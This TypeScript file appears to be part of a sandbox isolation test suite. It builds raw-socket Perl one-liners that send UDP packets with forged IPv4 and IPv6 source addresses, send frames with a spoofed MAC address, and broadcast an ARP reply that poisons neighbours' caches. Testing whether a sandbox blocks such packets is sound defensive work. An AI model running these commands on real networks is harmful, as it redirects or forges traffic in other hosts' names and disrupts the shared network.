/**
 * Packets that lie about who sent them, to an address that a sandbox may reach: so nothing but the lie is
 * a reason to refuse them. And a lie to the network's neighbours.
 */
import type { Evidence } from '../attack.ts';

/** Of somebody else; the far side of the proof's host knows a way back to it. */
export const FOREIGN_ADDRESS = '198.51.100.77';
const FOREIGN_ADDRESS_6 = '20010db8ffff00000000000000000077';
export const FOREIGN_CARD = '02:00:00:00:00:67';
const PUBLIC_ADDRESS_6 = '26064700000000000000000000001111';
/** Which change of neighbours the host looks for. */
export const BELIEVED_CHANGE = 'believed';

export type RawTry = [id: string, title: string, script: string, evidence: Evidence];

/** Internet checksum (RFC 1071). */
export const CHECKSUM =
  'sub sum { my $s = 0; $s += $_ for unpack("n*", $_[0]); $s = ($s >> 16) + ($s & 65535) while $s >> 16; ~$s & 65535 } ';
export const packedAddress = (text: string): string => `pack("C4", ${text.replaceAll('.', ', ')})`;

/** A datagram that says whose attack it is, to a port that is open: names have the resolver's alone. */
const datagram = (id: string): string =>
  `my $d = "GET /${id}"; my $udp = pack("nnnn", 4000, 443, 8 + length($d), 0) . $d; `;

/** $gw, $dev, $index and $card: the next hop, the way to it and its card, which is asked for first. */
const NEXT_HOP =
  'set -- $(ip -4 route show default); gw=$3; dev=$5; index=$(cat /sys/class/net/$dev/ifindex) || exit 1; ' +
  'timeout 2 bash -c "echo > /dev/udp/$gw/9"; sleep 0.5; ' +
  'card=$(ip -4 neigh show $gw dev $dev | grep -o "\\(..:\\)\\{5\\}.."); ';

/** A frame, past all that the sandbox's own kernel would say to it. */
const SEND_FRAME =
  'socket(S, 17, 3, 768) or die $!; ' +
  'send(S, $frame, 0, pack("S n l S C C a8", 17, 2048, $index, 1, 0, 6, $card)) or die $!;';

export const lies = (publicAddress: string): RawTry[] => [
  [
    'spoofed-source',
    'sends a datagram to a public address in the name of somebody else',
    `perl -e 'socket(S, 2, 3, 255) or die; ${datagram('spoofed-source')}` +
      `my $ip = pack("CCnnnCCn a4 a4", 69, 0, 20 + length($udp), 7, 0, 64, 17, 0, ${packedAddress(FOREIGN_ADDRESS)}, ${packedAddress(publicAddress)}); ` +
      `send(S, $ip . $udp, 0, pack("S n a4 x8", 2, 0, ${packedAddress(publicAddress)})) or die $!;'`,
    { by: 'arrival' },
  ],
  [
    'spoofed-source-6',
    'sends a datagram to a public address in the name of somebody else in IPv6',
    `perl -e '${CHECKSUM}socket(S, 10, 3, 255) or die; ${datagram('spoofed-source-6')}` +
      `my $ends = pack("H32 H32", "${FOREIGN_ADDRESS_6}", "${PUBLIC_ADDRESS_6}"); ` +
      'substr($udp, 6, 2) = pack("n", sum($ends . pack("NN", length($udp), 17) . $udp . (length($udp) % 2 ? "\\0" : ""))); ' +
      'my $ip = pack("N n C C", 0x60000000, length($udp), 17, 64) . $ends; ' +
      `send(S, $ip . $udp, 0, pack("S n N H32 N", 10, 0, 0, "${PUBLIC_ADDRESS_6}", 0)) or die $!;'`,
    { by: 'arrival' },
  ],
  [
    'spoofed-card',
    'sends a frame with the hardware address of another card',
    `${NEXT_HOP}from=$(ip -4 route get ${publicAddress} | grep -o "src [0-9.]*"); ` +
      `perl -e '${CHECKSUM}my ($index, $hex, $from) = @ARGV; $hex =~ s/://g; my $card = pack("H12", $hex); ` +
      datagram('spoofed-card') +
      `my $ip = pack("CCnnnCCn a4 a4", 69, 0, 20 + length($udp), 7, 0, 64, 17, 0, pack("C4", split(/[.]/, $from)), ${packedAddress(publicAddress)}); ` +
      'substr($ip, 10, 2) = pack("n", sum($ip)); ' +
      `my $frame = $card . pack("H12 n", "${FOREIGN_CARD.replaceAll(':', '')}", 2048) . $ip . $udp; ` +
      `${SEND_FRAME}' $index $card \${from#src }`,
    { by: 'arrival' },
  ],
  [
    'spoofed-neighbour',
    "tells the network's neighbours that somebody else's address is its own card's",
    `${NEXT_HOP}perl -e 'my ($index, $gw) = @ARGV; my ($card, $own) = (pack("H12", "ffffffffffff"), pack("H12", "${FOREIGN_CARD.replaceAll(':', '')}")); ` +
      `my $frame = $card . $own . pack("n n n C C n", 2054, 1, 2048, 6, 4, 1) . $own . ${packedAddress(FOREIGN_ADDRESS)} . pack("x6 C4", split(/[.]/, $gw)); ` +
      `${SEND_FRAME}' $index $gw; sleep 0.5`,
    { by: 'change', name: BELIEVED_CHANGE },
  ],
];
